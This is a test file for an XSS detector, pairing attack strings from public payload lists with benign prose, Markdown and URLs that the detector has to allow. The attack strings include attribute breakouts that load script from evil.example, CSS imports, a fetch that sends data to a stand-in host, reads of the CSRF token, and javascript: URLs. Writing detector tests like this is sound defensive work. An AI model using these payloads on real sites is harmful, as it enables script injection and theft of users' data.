/**
 * XSS families found by reading payload lists from outside the dev corpus (PortSwigger's cheat sheet, the OWASP
 * CRS 941xxx rules' targets, filter-evasion lists): each rule is one way of reading the HTML, CSS or JS context,
 * with the prose, Markdown and URLs that must stay allowed next to it.
 */
import { xssDetector } from "../src/detectors/xss/index.js";
import { describeRules, type RuleTable, scoreOf } from "./helpers.js";

const RULES: RuleTable = {
  "a known event's handler given any value after a separator": {
    attacks: ["abc onpointerenter=1", "a onload\t=b", "x;onload=init", "(onclick=go)", "a,onchange=1", "q onbeforetoggle=x"],
    benign: [
      "status onboarding=done",
      "set online=true",
      "x=1; onset=5",
      "once=1",
      "The event fires onload",
      "https://www.google.com/recaptcha/api.js?onload=onloadCallback&render=explicit",
      "https://maps.example.com/js?key=abc&onload=initMap",
    ],
  },
  "an attribute value closed, then an attribute that loads or restyles": {
    attacks: [
      '" src="//evil.example/x.js',
      "x' style='position:fixed;top:0;left:0;width:100%;height:100%",
      '"/formaction=//evil.example/collect',
      '" ping="//evil.example/log',
      "' background='//evil.example/x.png",
      "foo xlink:href=//evil.example/x.svg#a",
    ],
    benign: [
      'He said "hi" src=x',
      'name="John" style=formal',
      'Monitor 27" style=curved',
      "O'Brien style=x",
      'The "src" attribute sets the URL',
      'key="value" data=1',
    ],
  },
  "CSS that imports or fetches from another host": {
    attacks: [
      "@im\\port 'https://evil.example/x.css';",
      "@\\import url(//evil.example/x.css)",
      ";background:url(//evil.example/log)",
      'red;list-style-image:url("https://evil.example/x")',
    ],
    benign: ["Use @import to load stylesheets", "font-family: Arial; background: url(/img/bg.png)", "color: red; margin: 0"],
  },
  "finding and rewriting elements": {
    attacks: [
      "document.querySelector('#csrf').value",
      "document.querySelectorAll('input')",
      "x.parentNode.removeChild(x)",
      "this.parentNode.innerText=1",
    ],
    benign: ["document.querySelector is a DOM API", "the parentNode property", "See Node.parentNode. It returns the parent"],
  },
  "calls that send or probe, and sinks reached through the comma operator": {
    attacks: ["fetch('//evil.example/?c='+x)", "fetch(url)", "console.log(1)", "console.dir(window)", "(0,alert)(1)", "(1,eval)('x')"],
    benign: ["I will fetch (the ball) tomorrow", "fetch the data from the server", "see the console log", "reply (yes, confirm)"],
  },
  "a JS string left and the page's state written": {
    attacks: ["';el.textContent=1//", '"];cfg.debug=true;//', "'});settings.endpoint=1;//", "';name=1//"],
    benign: ["'quoted' text; next.step=done", '"Done"; result.ok=true', "'; DROP TABLE users", "'; a == b"],
  },
  "a whole value that is one script URL": {
    attacks: ["javascript:name", "vbscript:msgbox", "j&#97;vascript:x", "JavaScript:top"],
    benign: ["javascript: the good parts", "JavaScript: The Definitive Guide", "Learn JavaScript: a beginner's course"],
  },
  "markup with HTML's flags, old Netscape and IE elements, the XLink namespace": {
    attacks: [
      "<details open>",
      "<dialog open>",
      "<div contenteditable>",
      "<multicol>",
      "<spacer>",
      "<ilayer>",
      "x xmlns:xlink=http://www.w3.org/1999/xlink",
    ],
    benign: ["<select the best>", "Replace <name> with your name", "ssh user@<server>", "vector<int> v;", "<john@example.com>"],
  },
  "Markdown images are no JSFuck": {
    attacks: ["(![]+[])[+[]]", "+!![]", "[][(![]+[])[+[]]]"],
    benign: ["![](https://example.com/a.png)", "See ![](./diagram.svg) below", "![alt](x.png)"],
  },
};

describeRules("XSS families from outside lists", (value) => scoreOf(xssDetector, value), RULES);
